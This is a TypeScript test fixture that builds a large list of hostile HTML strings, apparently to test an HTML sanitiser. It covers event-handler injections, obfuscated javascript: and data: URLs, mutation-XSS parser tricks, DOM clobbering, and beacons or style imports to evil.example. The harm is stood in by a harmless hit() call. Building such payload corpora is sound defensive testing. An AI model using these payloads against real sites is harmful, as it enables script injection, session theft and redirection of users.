/** HTML that wants to run something, as an editor's account in the wrong hands would write it. `hit()` is the harm. */
const HARM = "hit()";

// prettier-ignore
const events = [
  "onclick", "onload", "onerror", "onmouseover", "onfocus", "onblur", "oninput", "ontoggle", "onanimationstart",
  "onanimationend", "ontransitionend", "onpointerenter", "onpointerrawupdate", "onwheel", "onscroll", "onbegin", "onend",
  "oncopy", "onpaste", "ondrag", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend", "onsubmit",
  "onhashchange", "onmessage", "onpageshow", "onpopstate", "onresize", "onloadstart", "oncanplay", "onsecuritypolicyviolation",
];
const holders = ["p", "a href=/x", "img src=/x", "b", "table", "h2"];

// prettier-ignore
const addresses = [
  `javascript:${HARM}`, `JaVaScRiPt:${HARM}`, ` javascript:${HARM}`, `java\tscript:${HARM}`, `java\nscript:${HARM}`,
  `java&#x09;script:${HARM}`, `&#106;avascript:${HARM}`, `&#x6A&#x61vascript:${HARM}`, `javascript&colon;${HARM}`,
  `\u0001javascript:${HARM}`, `\u00a0javascript:${HARM}`, `javascript://%0a${HARM}`, `vbscript:${HARM}`, `livescript:${HARM}`,
  `data:text/html,<script>${HARM}</script>`, `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`, `blob:https://evil.example/x`,
  `filesystem:x`, `view-source:x`, `jar:x`, `//evil.example`, `/\\evil.example`, `\\\\evil.example`, `/\t/evil.example`,
  `http://evil.example`, `https://user:pass@evil.example`, `https://evil.example:8443/`, `https:/evil.example`, `ftp://evil.example`,
  `/login`, `/signin-oidc?x`, `/%5c/evil.example`, `/\u202egnp.exe`,
];
const addressed = [
  "a href",
  "img src",
  "area href",
  "form action",
  "iframe src",
  "embed src",
  "object data",
  "link href",
  "base href",
];

// prettier-ignore
const whole = [
  `<script>${HARM}</script>`, `<SCRIPT SRC=//evil.example></SCRIPT>`, `<scr<script>ipt>${HARM}</scr</script>ipt>`, `<script/x>${HARM}</script>`,
  `<svg><script>${HARM}</script></svg>`, `<svg onload=${HARM}>`, `<svg><animate onbegin=${HARM} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${HARM}"></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${HARM}>#x">`,
  `<svg><a><animate attributeName=href values="javascript:${HARM}"/><text>x</text></a></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${HARM}</script>">`,
  `<math href="javascript:${HARM}">x</math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HARM}&gt;">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=${HARM}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HARM}>`, `<svg></p><style><a id="</style><img src=1 onerror=${HARM}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`, `<p title="<!--"><img src=x onerror=${HARM}>-->`, `<!--><img src=x onerror=${HARM}>-->`,
  `<!--[if gte IE 4]><script>${HARM}</script><![endif]-->`, `<![CDATA[><img src=x onerror=${HARM}>]]>`, `<?xml version="1.0"?><img src=x onerror=${HARM}>`,
  `<template><img src=x onerror=${HARM}></template>`, `<div><template shadowrootmode=open><img src=x onerror=${HARM}></template></div>`,
  `<iframe srcdoc="<img src=x onerror=parent.${HARM}>"></iframe>`, `<iframe src="javascript:parent.${HARM}"></iframe>`, `<frameset onload=${HARM}>`,
  `<object data="data:text/html,<script>${HARM}</script>"></object>`, `<embed src="javascript:${HARM}">`, `<applet code=x>`, `<portal src=//evil.example>`,
  `<body onload=${HARM}>`, `<html onmouseover=${HARM}>`, `<meta http-equiv=refresh content="0;url=javascript:${HARM}">`, `<base href="javascript:/a/+${HARM}//">`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import "//evil.example/x.css";</style>`, `<style>*{background:url(//evil.example)}</style>`,
  `<p style="background:url(javascript:${HARM})">x</p>`, `<p style="position:fixed;inset:0">x</p>`, `<p class="overlay" id="root" name="forms" data-x=1 aria-hidden=true>x</p>`,
  `<form id=a><input name=attributes><input name=parentNode></form>`, `<img name=getElementById><img id=createElement name=body>`, `<a id=location href=x:y>x</a>`,
  `<input autofocus onfocus=${HARM}>`, `<button formaction="javascript:${HARM}">x</button>`, `<isindex action="javascript:${HARM}" type=image>`,
  `<details open ontoggle=${HARM}>x</details>`, `<video><source onerror=${HARM}></video>`, `<audio src=x onerror=${HARM}>`, `<marquee onstart=${HARM}>x</marquee>`,
  `<select onfocus=${HARM} autofocus></select>`, `<textarea autofocus onfocus=${HARM}></textarea>`, `<keygen autofocus onfocus=${HARM}>`, `<dialog open onclose=${HARM}>x</dialog>`,
  `<img src=x:x onerror=${HARM}`, `<img """><script>${HARM}</script>">`, `<img src="/x"onerror="${HARM}">`, `<img/src=x/onerror=${HARM}>`, `<img src=x one\u0000rror=${HARM}>`,
  `<img srcset="//evil.example/x 1x" sizes=1px>`, `<img src=/x usemap="#m"><map name=m><area href="javascript:${HARM}"></map>`, `<picture><source srcset=//evil.example/x></picture>`,
  `<a href=/x target=_self ping=//evil.example>x</a>`, `<a href=https://evil.example target=_blank rel=opener>x</a>`, `<a href="/x" download onclick=${HARM}>x</a>`,
  `<table background="javascript:${HARM}"><td background="javascript:${HARM}">x</td></table>`, `<td><p></table><img src=x onerror=${HARM}>`, `<li type="javascript:${HARM}">x`,
  `<x-custom is=y onclick=${HARM}>x</x-custom>`, `<p is="x-harm">x</p>`, `<slot onslotchange=${HARM}><p>x</p></slot>`, `<xmp><img src=x onerror=${HARM}></xmp>`, `<plaintext><script>${HARM}</script>`,
  `<h1><h2></h1><script>${HARM}</script></h2>`, `<hscript1>${HARM}</hscript1>`, `<h1script>${HARM}</h1script>`, `<<h1>script>${HARM}</script>`, `${"<b>".repeat(600)}<img src=x onerror=${HARM}>`,
];

export const hostileHtml: readonly string[] = [
  ...events.flatMap((event, at) => {
    const holder = holders[at % holders.length]!;
    const tag = holder.split(" ")[0]!;
    return [`<${holder} ${event}="${HARM}">x</${tag}>`, `<${holder}/${event.toUpperCase()}=${HARM}//>x`];
  }),
  ...addresses.flatMap((address, at) => {
    const others = addressed.slice(1 + (at % 2) * 4, 4 + (at % 2) * 4);
    return ["a href", ...others].map((place) => `<${place}="${address}">x</${place.split(" ")[0]!}>`);
  }),
  ...whole,
];
